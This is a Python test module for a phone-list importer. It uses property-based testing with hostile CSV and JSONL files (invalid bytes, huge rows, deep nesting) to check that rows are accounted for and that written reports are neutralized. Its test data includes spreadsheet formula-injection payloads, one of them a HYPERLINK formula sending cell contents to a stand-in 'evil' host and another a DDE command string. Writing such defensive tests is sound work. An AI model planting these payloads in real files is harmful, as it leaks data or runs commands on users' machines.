"""Hostile input files, generated, through the real importer and the drain's
row reader and report, against the test session's Redis.

Whatever a file holds (bytes that are not UTF-8, NUL, BOMs, CR, CRLF, quotes,
cells of a few hundred KB, JSON nested past the decoder's limit), the import
does not stop: every non-blank row is queued, skipped as a duplicate or
rejected, at the line it starts on, with a one-line reason and a short
excerpt, and no cell of a CSV file we write starts with what a spreadsheet
would run as a formula.
"""

from __future__ import annotations

import asyncio
import csv
import io
import itertools
import json
import os
import re
import subprocess
import sys
from collections.abc import Sequence
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from redis.asyncio import Redis

from tests.conftest import make_settings
from worker.accounts.status import server_time_ms
from worker.drain.batch import DrainProgress, DrainSpec, import_rows
from worker.drain.report import write_report
from worker.drain.rows import file_tag, numbered_rows
from worker.errors import BadInput
from worker.intake.csv_cells import FORMULA_STARTS, restore_cell
from worker.intake.importer import (
    MAX_JSON_DEPTH,
    ImportCounts,
    Rejected,
    RejectsWriter,
    import_jobs,
    open_source,
)
from worker.intake.lines import EXCERPT_CHARS, MAX_ROW_CHARS
from worker.queue.jobs import Job
from worker.queue.lanes import Queue
from worker.store.keys import AccountKeys

HOSTILE = settings(
    max_examples=40,
    deadline=None,
    # The same examples on every run and machine: a failure here is reproducible.
    derandomize=True,
    database=None,
    # One Redis, tmp_path and prefix per test; each example takes its own prefix and file.
    suppress_health_check=[
        HealthCheck.function_scoped_fixture,
        HealthCheck.too_slow,
        HealthCheck.data_too_large,
        HealthCheck.large_base_example,
    ],
)
_examples = itertools.count()
# Universal newlines, as the importer reads the file.
_LINE_BREAK = re.compile("\r\n|\r|\n")
# An escape in an excerpt is at most 6 characters (\uNNNN), and a cut adds its length.
_MAX_EXCERPT = 6 * EXCERPT_CHARS + 40
BOM = "\ufeff"

# Characters that break parsers, mixed into any text.
awkward = st.sampled_from([*"\",\r\n\x00\t =+-@'\\{}[]", BOM, "\u2028", "\x85", "é", "😀"])
cell_text = st.text(st.one_of(awkward, st.characters(codec="utf-8")), max_size=24)
# Bytes of one line: no line break, no quote (so a line is a row), anything else.
line_bytes = st.binary(max_size=60).map(
    lambda b: b.replace(b"\r", b"").replace(b"\n", b"").replace(b'"', b"")
)
phones = st.from_regex(r"\+?[1-9][0-9]{4,14}", fullmatch=True)
campaigns = st.sampled_from(["spring", "=cmd", "+x", "@a", "-b", "\tt"])
names = st.sampled_from(
    ["", "Asha", '=HYPERLINK("http://evil/?"&A1)', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3+cmd"]
)
terminators = st.sampled_from(["\n", "\r\n", "\r"])


# Plain classes, not dataclasses: Hypothesis prints a dataclass field by
# field, and a failure report would hold every byte of a 300 KB row.
class Row:
    """A row as written (its bytes, line break included), and what must become of it."""

    def __init__(
        self, data: bytes, blank: bool = False, valid: bool = False, refusal: str = ""
    ) -> None:
        self.data = data
        self.blank = blank
        self.valid = valid  # a job, or a duplicate of one: never rejected
        self.refusal = refusal  # the start of the reason it must be rejected with, if known

    def __repr__(self) -> str:
        # Short enough for a failure report, whatever the row's size.
        head = self.data[:80]
        return (
            f"Row({head!r} ({len(self.data)} bytes), {self.blank}, {self.valid}, {self.refusal!r})"
        )


class File:
    """A whole file: what comes before the rows (a BOM, a CSV header), then the rows."""

    def __init__(self, head: bytes, rows: list[Row]) -> None:
        self.head = head
        self.rows = rows

    @property
    def data(self) -> bytes:
        return self.head + b"".join(row.data for row in self.rows)

    def data_lines(self) -> dict[int, Row]:
        """The non-blank rows by the line each starts on, counted in universal newlines."""
        line = 1 + len(_LINE_BREAK.findall(decoded(self.head)))
        found: dict[int, Row] = {}
        for row in self.rows:
            if not row.blank:
                found[line] = row
            line += len(_LINE_BREAK.findall(decoded(row.data)))
        return found

    def __repr__(self) -> str:
        return f"File({self.head!r}, rows={self.rows!r})"


def csv_row(cells: Sequence[str], end: str) -> str:
    out = io.StringIO()
    # CRLF: the writer then quotes a cell holding either CR or LF.
    csv.writer(out, lineterminator="\r\n").writerow(cells)
    return out.getvalue().removesuffix("\r\n") + end


def decoded(data: bytes) -> str:
    return data.decode("utf-8", "surrogateescape")


@st.composite
def csv_rows(draw: st.DrawFn, end: str) -> Row:
    kind = draw(st.sampled_from(["good", "cells", "bytes", "huge", "blank"]))
    if kind == "good":
        cells = [draw(phones), draw(campaigns), draw(names)]
        return Row(csv_row(cells, end).encode(), valid=True)
    if kind == "cells":
        cells = draw(st.lists(cell_text, max_size=5))
        return Row(csv_row(cells, end).encode(), blank=not "".join(cells).strip())
    if kind == "bytes":
        data = draw(line_bytes)
        text = decoded(data)
        not_utf8 = text.encode("utf-8", "surrogateescape") != text.encode("utf-8", "replace")
        return Row(
            data + end.encode(),
            blank=not text.replace(",", "").strip(),
            refusal="not UTF-8 text" if not_utf8 else "",
        )
    if kind == "huge":
        size = draw(st.integers(MAX_ROW_CHARS + 1, 300_000))
        quoted = draw(st.booleans())
        # A quoted cell may run over many lines; an unquoted one is one long line.
        piece = "y" * 999 + ("\n" if quoted and draw(st.booleans()) else "y")
        cell = (piece * (size // 1000 + 1))[:size]
        text = f'9876500001,spring,"{cell}"' if quoted else f"9876500001,spring,{cell}"
        return Row((text + end).encode(), refusal="row longer than")
    return Row(end.encode(), blank=True)


@st.composite
def csv_files(draw: st.DrawFn) -> File:
    end = draw(terminators)
    rows = draw(st.lists(csv_rows(end), max_size=12))
    bom = BOM if draw(st.booleans()) else ""
    return File((bom + "phoneNumber,campaignName,name" + end).encode(), rows)


json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | cell_text,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(cell_text, inner, max_size=3),
    max_leaves=8,
)


@st.composite
def jsonl_rows(draw: st.DrawFn, end: bytes) -> Row:
    row = draw(jsonl_lines())
    return Row(row.data + end, row.blank, row.valid, row.refusal)


@st.composite
def jsonl_lines(draw: st.DrawFn) -> Row:
    kind = draw(st.sampled_from(["good", "value", "fields", "nested", "bytes", "bigint", "blank"]))
    ascii_only = draw(st.booleans())
    if kind == "good":
        value = {"phone": draw(phones), "campaign": draw(campaigns), "name": draw(names)}
        return Row(json.dumps(value, ensure_ascii=ascii_only).encode(), valid=True)
    if kind in ("value", "fields"):
        value = draw(json_values)
        if kind == "fields":
            value = {"phoneNumber": value, "campaignName": draw(json_values), "name": value}
        return Row(json.dumps(value, ensure_ascii=ascii_only).encode())
    if kind == "nested":
        depth = draw(st.integers(1, 200_000))
        opener = draw(st.sampled_from(["[", '{"a":']))
        if len(opener) * depth > MAX_ROW_CHARS:
            refusal = "row longer than"
        elif depth > MAX_JSON_DEPTH:
            refusal = f"not a JSON object: nested more than {MAX_JSON_DEPTH} deep"
        else:
            refusal = "not a JSON object"
        return Row((opener * depth).encode(), refusal=refusal)
    if kind == "bytes":
        data = draw(line_bytes)
        return Row(data, blank=not decoded(data).strip())
    if kind == "bigint":
        return Row(b"9" * draw(st.integers(4301, 20_000)), refusal="not a JSON object")
    return Row(draw(st.sampled_from([b"", b"  ", b"\t"])), blank=True)


@st.composite
def jsonl_files(draw: st.DrawFn) -> File:
    end = draw(st.sampled_from([b"\n", b"\r\n"]))
    # The first object stands for the file: it names the phone and campaign keys.
    first = Row(b'{"phone": "9876500000", "campaign": "spring"}' + end, valid=True)
    rows = [first, *draw(st.lists(jsonl_rows(end), max_size=12))]
    return File(BOM.encode() if draw(st.booleans()) else b"", rows)


def read_written(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def assert_neutralized(rows: list[list[str]]) -> None:
    for cell in (cell for row in rows for cell in row):
        assert not cell.startswith(FORMULA_STARTS), cell


def assert_rejection_is_tidy(row: Rejected) -> None:
    assert row.reason and "\n" not in row.reason and "\r" not in row.reason, row
    assert len(row.reason) < 120, row
    assert len(row.raw) <= _MAX_EXCERPT, row


async def import_file(
    redis: Redis, path: Path, prefix: str, rejects: Path
) -> tuple[ImportCounts, list[Rejected]]:
    rejected: list[Rejected] = []
    writer = RejectsWriter(str(rejects))

    def on_reject(row: Rejected) -> None:
        rejected.append(row)
        writer.write(row)

    try:
        with open_source(str(path)) as source:
            queue = Queue(redis, AccountKeys(prefix, "default"))
            counts = await import_jobs(queue, source.jobs(), "bulk", on_reject)
    finally:
        writer.close()
    return counts, rejected


async def check_file(
    redis: Redis,
    redis_url: str,
    key_prefix: str,
    tmp_path: Path,
    suffix: str,
    file: File,
) -> None:
    example = next(_examples)
    path = tmp_path / f"list{example}{suffix}"
    path.write_bytes(file.data)
    expected = file.data_lines()

    with open_source(str(path)) as source:
        numbered = list(source.numbered_jobs())
    assert [line for line, _ in numbered] == sorted(expected)
    for line, row in numbered:
        if isinstance(row, Rejected):
            assert row.line == line
            assert not expected[line].valid, row
            assert row.reason.startswith(expected[line].refusal), row
            assert_rejection_is_tidy(row)
        else:
            assert not expected[line].refusal, (line, row)

    # The import: every row ends queued, a duplicate or rejected.
    prefix = f"{key_prefix}-{example}"
    rejects = tmp_path / f"rejects{example}.csv"
    counts, rejected = await import_file(redis, path, prefix, rejects)
    assert counts.queued + counts.duplicates + counts.rejected == len(expected)
    assert [r for _, r in numbered if isinstance(r, Rejected)] == rejected
    assert await redis.xlen(AccountKeys(prefix, "default").bulk) == counts.queued
    written = read_written(rejects)
    assert_neutralized(written)
    assert [[restore_cell(cell) for cell in row] for row in written[1:]] == [
        [str(r.line), r.reason, r.raw] for r in rejected
    ]

    # The drain: the same rows at the same lines, imported, then reported line by line.
    keys = AccountKeys(f"{prefix}-drain", "default")
    spec = DrainSpec(path, file_tag(path), keys)
    drained = list(numbered_rows(path, spec.tag, "", False))
    assert [line for line, _ in drained] == sorted(expected)
    for (line, row), (_, mine) in zip(drained, numbered, strict=True):
        assert isinstance(row, Job) == isinstance(mine, Job), line
    progress = DrainProgress()
    started_ms = await server_time_ms(redis)
    settings_ = make_settings(redis_url, keys.prefix)
    assert await import_rows(redis, spec, settings_, asyncio.Event(), progress)
    assert progress.queued + progress.duplicates + progress.rejected == len(expected)
    report_dir = tmp_path / f"report{example}"
    summary = await write_report(
        redis, keys, spec.rows(), spec.tag, path, report_dir, report_dir / "rejects.csv", started_ms
    )
    assert summary.rows == len(expected)
    assert summary.outcomes["rejected"] == counts.rejected
    outcomes = read_written(report_dir / "outcomes.csv")
    assert_neutralized(outcomes)
    assert [int(row[0]) for row in outcomes[1:]] == sorted(expected)
    assert_neutralized(read_written(report_dir / "rejects.csv"))


@HOSTILE
@given(file=csv_files())
async def test_any_csv_rows_end_queued_duplicate_or_rejected_at_their_line(
    redis: Redis, redis_url: str, key_prefix: str, tmp_path: Path, file: File
) -> None:
    await check_file(redis, redis_url, key_prefix, tmp_path, ".csv", file)


@HOSTILE
@given(file=jsonl_files())
async def test_any_jsonl_lines_end_queued_duplicate_or_rejected_at_their_line(
    redis: Redis, redis_url: str, key_prefix: str, tmp_path: Path, file: File
) -> None:
    await check_file(redis, redis_url, key_prefix, tmp_path, ".jsonl", file)


@HOSTILE
@given(
    data=st.one_of(
        st.binary(max_size=3000),
        st.binary(max_size=1000).map(lambda b: b"phone,campaign\n" + b),
        st.binary(max_size=1000).map(lambda b: b'{"phone": "98765", "campaign": "c"}\n' + b),
    ),
    suffix=st.sampled_from([".csv", ".jsonl", ".txt"]),
)
async def test_any_bytes_are_a_refused_file_or_rows_that_add_up(
    redis: Redis, key_prefix: str, tmp_path: Path, data: bytes, suffix: str
) -> None:
    example = next(_examples)
    path = tmp_path / f"any{example}{suffix}"
    path.write_bytes(data)
    prefix = f"{key_prefix}-{example}"
    rejects = tmp_path / f"rejects{example}.csv"
    try:
        with open_source(str(path)) as source:
            numbered = list(source.numbered_jobs())
    except BadInput as exc:
        # The whole file is refused, with a message, and nothing is queued.
        assert "\n" not in str(exc)
        with pytest.raises(BadInput):
            await import_file(redis, path, prefix, rejects)
        assert await redis.xlen(AccountKeys(prefix, "default").bulk) == 0
        return
    lines = [line for line, _ in numbered]
    assert lines == sorted(set(lines))
    counts, rejected = await import_file(redis, path, prefix, rejects)
    assert counts.queued + counts.duplicates + counts.rejected == len(numbered)
    for row in rejected:
        assert_rejection_is_tidy(row)
    assert_neutralized(read_written(rejects))


def test_the_import_command_on_a_hostile_file_exits_0_with_every_row_counted(
    redis_url: str, key_prefix: str, tmp_path: Path
) -> None:
    good = [f"98{i:08d},spring,n{i}\n".encode() for i in range(2600)]
    path = tmp_path / "hostile.csv"
    path.write_bytes(
        b"\xef\xbb\xbfphoneNumber,campaignName,name\r\n"
        + b"".join(good[:2500])
        + "9876543210,spring,José\n".encode("latin-1")
        + b"9876543211,spring,"
        + b"x" * 1_000_000
        + b"\n"
        + b"[" * 100_000
        + b"\n"
        + b'+919845012345,spring,"=HYPERLINK(""http://evil/?""&A1)"\n'
        + b"-2+3+cmd,spring,@SUM(1)\n"
        + b"\x00\x00\x00\n"
        + b"".join(good[2500:])
    )
    rejects = tmp_path / "rejects.csv"
    env = {k: v for k, v in os.environ.items() if not k.startswith(("OZP_", "OZONETEL_"))}
    result = subprocess.run(
        [sys.executable, "-m", "worker", "import", str(path), "--rejects", str(rejects)],
        env={**env, "REDIS_URL": redis_url, "OZP_KEY_PREFIX": key_prefix},
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )

    assert result.returncode == 0, result.stderr
    assert "Traceback" not in result.stderr
    assert result.stdout.strip() == "queued 2601, duplicates skipped 0, rejected 5"
    written = read_written(rejects)
    assert_neutralized(written)
    assert [(row[0], row[1][:20]) for row in written[1:]] == [
        ("2502", "not UTF-8 text"),
        ("2503", "row longer than 6553"),
        ("2504", "row longer than 6553"),
        ("2506", "phone number must be"),
        ("2507", "campaign is empty"),
    ]
    assert all(len(row[2]) <= _MAX_EXCERPT for row in written)
